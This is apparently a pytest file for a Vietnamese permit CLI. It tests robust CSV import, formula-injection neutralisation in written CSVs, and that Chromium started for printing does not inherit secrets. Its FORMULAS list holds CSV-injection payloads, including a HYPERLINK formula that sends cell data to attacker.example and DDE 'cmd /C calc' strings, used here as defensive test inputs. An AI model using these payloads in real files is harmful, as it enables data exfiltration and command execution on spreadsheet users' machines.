"""Officers' files: the CSV an officer imports, every CSV the service writes, and the browser
that prints a permit.

- A line the csv module cannot read (a cell over its limit, a quote that never closes or closes
  in the middle of a cell) is one rejected row with its line and reason; the import goes on, and
  a stray quote never swallows the rows after it.
- Every cell a spreadsheet would run as a formula is neutralised (OWASP: a `'` in front) in every
  CSV written, and the import takes exactly that `'` off again.
- Chromium, started by `permit print`, never sees the officer's passphrase or any other secret
  of the shell that started it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import PASSPHRASE, City, passphrase
from test_import import HEADER, row, run_import, write_csv

from cli import cli
from keys.reasons import Reason
from permits import operator
from permits.i18n import translate

PERMIT = str(Path(sys.executable).parent / "permit")
# The bounds SECURITY.md and the officer's guide give: how long a line, how far an open quote.
MAX_RECORD_CHARS = 131_072
MAX_RECORD_LINES = 100
# What a spreadsheet may take for the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def permit_import(city: City, path: Path) -> tuple[dict[str, object], list[dict[str, str]]]:
    """`permit import --json` as an officer runs it: its report, and the rejected rows file read
    back as a spreadsheet would."""
    result = CliRunner().invoke(cli, ["import", str(path), "--agency", "hcm-syt", "--type", "food-safety", "--json"],
                                env={"PERMIT_HOME": str(city.home.path), "PERMIT_PASSPHRASE": PASSPHRASE.decode()})
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    rejected = []
    if report["rejected_file"]:
        with open(report["rejected_file"], encoding="utf-8-sig", newline="") as handle:
            rejected = list(csv.DictReader(handle))
    return report, rejected


def imported_numbers(city: City) -> set[str]:
    ledger = city.home.ledger("hcm-syt")
    try:
        return {number for (number,) in ledger.db.conn.execute("SELECT number FROM permits")}
    finally:
        ledger.close()


def lines_of(*rows: list[str]) -> str:
    """Rows as a spreadsheet writes them to CSV."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue()


def plain(number: str, **cells: str) -> list[str]:
    """A good row with no quote in its CSV line: an open quote before it runs on over it."""
    return row(number, **{"holder_address": "128 Nguyễn Thị Minh Khai", "activities": "Bán lẻ thực phẩm", **cells})


@pytest.fixture
def officer(env_home: City) -> City:
    """The city home as `permit import` sees it, with a registry current on the real clock."""
    operator.publish(env_home.home, passphrase, int(time.time()))
    return env_home


# --- the import: lines the csv module cannot read ------------------------------------------------------


def test_oversized_field_is_one_rejected_row_and_the_import_goes_on(officer: City, tmp_path: Path) -> None:
    rows = [row("O-1"), row("O-2", holder_name="Công ty " + "Đ" * (MAX_RECORD_CHARS + 10)), row("O-3"),
            row("O-4", activities="Sản xuất, chế biến thực phẩm|\nBán lẻ thực phẩm"), row("O-5")]
    report, rejected = permit_import(officer, write_csv(tmp_path / "paper.csv", rows))
    assert (report["imported"], report["rejected"]) == (4, 1)
    assert imported_numbers(officer) == {"O-1", "O-3", "O-4", "O-5"}
    assert [(r["line"], r["error"]) for r in rejected] == [("3", f"line_too_long: line 3 is longer than {MAX_RECORD_CHARS:,} characters")]
    # What is kept of the line shows which it was, and fits in a spreadsheet's cell.
    assert rejected[0]["number"].startswith("O-2,0312345678,Công ty ĐĐĐ") and len(rejected[0]["number"]) == 32_767


def test_unbalanced_quote_cannot_swallow_the_rest_of_the_file(officer: City, tmp_path: Path) -> None:
    good = [plain(f"U-{i:03d}") for i in range(MAX_RECORD_LINES + 50)]
    text = ",".join(HEADER) + "\n" + lines_of(*good[:3])
    # Line 5: a quote opened and never closed. Line 9 holds a quoted cell, whose opening quote
    # closes line 5's by mistake, in the middle of a cell.
    text += 'U-bad-1,0312345678,"Công ty Mở Ngoặc,,,,,2028-05-31\n'
    text += lines_of(*good[3:6])
    text += lines_of(plain("U-quoted", holder_name='Công ty TNHH "Phố Cổ"'))
    # A cell that legitimately runs over two lines still imports.
    text += lines_of(plain("U-two-lines", activities="Sản xuất|\nBán lẻ"))
    # Line 12: another open quote, and no quote in the rest of the file.
    text += 'U-bad-2,0312345678,Hộ kinh doanh Phở,"260C Pasteur,,,,2028-05-31\n'
    text += lines_of(*good[6:])
    path = tmp_path / "paper.csv"
    path.write_text(text, encoding="utf-8")
    report, rejected = permit_import(officer, path)
    numbers = imported_numbers(officer)
    assert numbers == {r[0] for r in good} | {"U-quoted", "U-two-lines"}
    assert report["imported"] == len(good) + 2
    assert [(r["line"], r["error"].split(":")[0], r["number"]) for r in rejected] == [
        ("5", "unbalanced_quote", 'U-bad-1,0312345678,"Công ty Mở Ngoặc,,,,,2028-05-31'),
        ("12", "unbalanced_quote", 'U-bad-2,0312345678,Hộ kinh doanh Phở,"260C Pasteur,,,,2028-05-31'),
    ]
    assert rejected[0]["error"] == "unbalanced_quote: a quote on line 5 is not closed where a cell ends (text follows a closing quote on line 9)"
    assert rejected[1]["error"] == f"unbalanced_quote: a quote on line 12 is not closed within {MAX_RECORD_LINES} lines"
    ledger = officer.home.ledger("hcm-syt")
    try:
        quoted = ledger.find(limit=500)
    finally:
        ledger.close()
    by_number = {r.permit.number: r.permit for r in quoted}
    assert by_number["U-quoted"].holder_name == 'Công ty TNHH "Phố Cổ"'
    assert by_number["U-two-lines"].activities == ("Sản xuất", "Bán lẻ")


# Twenty conditions of 290 characters: a long line that still imports.
LONG_CONDITIONS = "|".join([("Giữ vệ sinh nơi chế biến " * 12)[:290].strip()] * 20)


@pytest.mark.parametrize(
    ("after", "message"),
    [
        ([plain(f"U-{i}", conditions=LONG_CONDITIONS) for i in range(25)],
         f"a quote on line 3 is not closed within {MAX_RECORD_CHARS:,} characters"),
        ([plain(f"U-{i}") for i in range(5)], "a quote on line 3 is not closed before the end of the file"),
        ([plain("U-0")], "a quote on line 3 is not closed before the end of the file"),
    ],
    ids=["runs past the character bound", "runs to the end of the file", "on the line before the last"],
)
def test_an_open_quote_is_rejected_from_its_own_line_however_far_it_runs(city: City, tmp_path: Path, after: list[list[str]], message: str) -> None:
    path = tmp_path / "paper.csv"
    path.write_text(",".join(HEADER) + "\n" + lines_of(row("U-first")) + 'U-bad,0312345678,"Công ty Mở Ngoặc,,,,,2028-05-31\n'
                    + lines_of(*after), encoding="utf-8")
    report = run_import(city, path, batch_size=7)
    assert (report.imported, report.rejected) == (1 + len(after), 1)  # type: ignore[attr-defined]
    ledger = city.home.ledger("hcm-syt")
    try:
        assert [(line, reason, message_) for line, reason, message_, _ in ledger.import_rejects(report.source)] == [  # type: ignore[attr-defined]
            (3, "unbalanced_quote", message)]
    finally:
        ledger.close()


def test_text_after_a_closing_quote_is_a_rejected_row_not_a_silently_changed_name(city: City, tmp_path: Path) -> None:
    # Read leniently, `"Phố Cổ" Bakery` became `Phố Cổ Bakery`: another name than the officer's.
    path = tmp_path / "paper.csv"
    path.write_text(",".join(HEADER) + '\nQ-1,0312345678,"Phố Cổ" Bakery,,,,,2028-05-31\n' + lines_of(row("Q-2")), encoding="utf-8")
    report = run_import(city, path)
    assert (report.imported, report.rejected) == (1, 1)  # type: ignore[attr-defined]
    ledger = city.home.ledger("hcm-syt")
    try:
        assert [(line, reason) for line, reason, _, _ in ledger.import_rejects(report.source)] == [(2, "unbalanced_quote")]  # type: ignore[attr-defined]
    finally:
        ledger.close()


def test_the_new_reasons_have_a_sentence_in_both_languages() -> None:
    for reason in (Reason.LINE_TOO_LONG, Reason.UNBALANCED_QUOTE):
        english, vietnamese = translate(reason.sentence, "en"), translate(reason.sentence, "vi")
        assert english and vietnamese and english != vietnamese


# --- CSV written: safe to open in a spreadsheet ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+84 Coffee", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted once", "''+twice"]


def test_formula_in_a_holder_name_is_neutralised_in_the_rejected_rows_file(officer: City, tmp_path: Path) -> None:
    rows = [row(f"F-{i}", holder_name=formula, holder_address=formula, activities=formula, valid_until="31/02/2028")
            for i, formula in enumerate(FORMULAS)]
    rows.append(row("=1+1", holder_id="@0312345678", valid_until="-1"))
    report, rejected = permit_import(officer, write_csv(tmp_path / "paper.csv", rows))
    assert (report["imported"], report["rejected"]) == (0, len(rows))
    for cells in rejected:
        for value in cells.values():
            assert not value.startswith(FORMULA_START), cells
    # A cell that came neutralised already is read as the value behind it, and written as that.
    assert [r["holder_name"] for r in rejected[: len(FORMULAS)]] == [*("'" + f for f in FORMULAS[:-2]), "'=already quoted once", "''+twice"]
    assert (rejected[-1]["number"], rejected[-1]["holder_id"], rejected[-1]["valid_until"]) == ("'=1+1", "'@0312345678", "'-1")


def test_formula_at_the_start_of_an_unreadable_line_is_neutralised_in_the_rejected_rows_file(officer: City, tmp_path: Path) -> None:
    path = tmp_path / "paper.csv"
    path.write_text(",".join(HEADER) + "\n" + "=cmd|' /C calc'!A0,0312345678,\"Công ty,,,,,2028-05-31\n", encoding="utf-8")
    report, rejected = permit_import(officer, path)
    assert report["rejected"] == 1
    assert rejected[0]["number"] == "'=cmd|' /C calc'!A0,0312345678,\"Công ty,,,,,2028-05-31"
    assert rejected[0]["error"].startswith("unbalanced_quote: ")


def test_every_csv_the_project_writes_goes_through_the_neutralising_writer() -> None:
    root = Path(__file__).resolve().parents[2]
    sources = [*root.glob("keys/**/*.py"), *root.glob("permits/**/*.py"), *root.glob("verifier/**/*.py"), *root.glob("bench/**/*.py"),
               root / "cli.py"]
    writers = {str(path.relative_to(root)) for path in sources if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())}
    assert writers == {"permits/spreadsheet.py"}


# --- the browser that prints a permit ---------------------------------------------------------------------

CANARY = "canary-7f3a9c1e-not-for-the-browser"
SHELL = {"PWD", "OLDPWD", "SHLVL", "_"}  # what sh itself adds to what it was given
# All Chromium may be given: where programs are, the locale, the time zone, fontconfig's settings,
# and its own home, temporary and XDG directories.
ALLOWED = {"PATH", "LANG", "LANGUAGE", "TZ", "FONTCONFIG_FILE", "FONTCONFIG_PATH", "HOME", "TMPDIR", "XDG_CONFIG_HOME",
           "XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_RUNTIME_DIR"}
RECORDER = """#!/bin/sh
# The `chromium` permit print finds first: records the environment it was given, then runs
# Debian's chromium (whose processes inherit that environment).
env >> {log}
printf '%s\\n' '--- end of one environment ---' >> {log}
exec /usr/bin/chromium "$@"
"""


def descendants(root: int) -> set[int]:
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
    found: set[int] = set()
    frontier = {root}
    while frontier:
        frontier = {pid for pid, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


def test_chromium_never_sees_the_passphrase(env_home: City, tmp_path: Path) -> None:
    record = env_home.issue(at=int(time.time()))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "chromium-environments.txt"
    (bin_dir / "chromium").write_text(RECORDER.format(log=log))
    (bin_dir / "chromium").chmod(0o755)
    out = tmp_path / "x.pdf"
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "PERMIT_HOME": str(env_home.home.path),
           "PERMIT_PASSPHRASE": PASSPHRASE.decode(), "OFFICER_API_TOKEN": CANARY, "LANG": "vi_VN.UTF-8", "TZ": "Asia/Ho_Chi_Minh"}
    process = subprocess.Popen([PERMIT, "print", record.permit.id, "--out", str(out)], env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    seen: dict[int, bytes] = {}
    while process.poll() is None:
        for pid in descendants(process.pid) - set(seen):
            try:
                program = os.readlink(f"/proc/{pid}/exe")
                environ = Path(f"/proc/{pid}/environ").read_bytes()
            except OSError:
                continue  # gone already
            # Chromium itself; not `permit` forked and about to run the recorder.
            if Path(program).name == "chromium" and environ:
                seen[pid] = environ
        time.sleep(0.005)
    _, errors = process.communicate()
    assert process.returncode == 0, errors

    recorded = log.read_text()
    assert recorded.count("--- end of one environment ---") == 1
    assert len(seen) >= 2, seen  # the browser and the processes it started, watched as they ran
    for environ in [recorded.encode(), *seen.values()]:
        assert CANARY.encode() not in environ and PASSPHRASE not in environ and b"PERMIT_" not in environ
    given = dict(line.split("=", 1) for line in recorded.splitlines() if "=" in line)
    assert {name for name in given if not name.startswith("LC_")} <= ALLOWED | SHELL, sorted(given)
    assert (given["LANG"], given["TZ"], given["PATH"]) == ("vi_VN.UTF-8", "Asia/Ho_Chi_Minh", env["PATH"])
    assert "/permit-pdf-" in given["HOME"] and given["TMPDIR"].startswith(given["HOME"].rsplit("/", 1)[0])
    # The permit was printed all the same, its Vietnamese text whole.
    assert out.read_bytes().startswith(b"%PDF-")
    text = unicodedata.normalize("NFC", subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, check=True).stdout)
    assert "Công ty TNHH Thực phẩm Sạch Bình Minh" in text and "Sở Y tế" in text
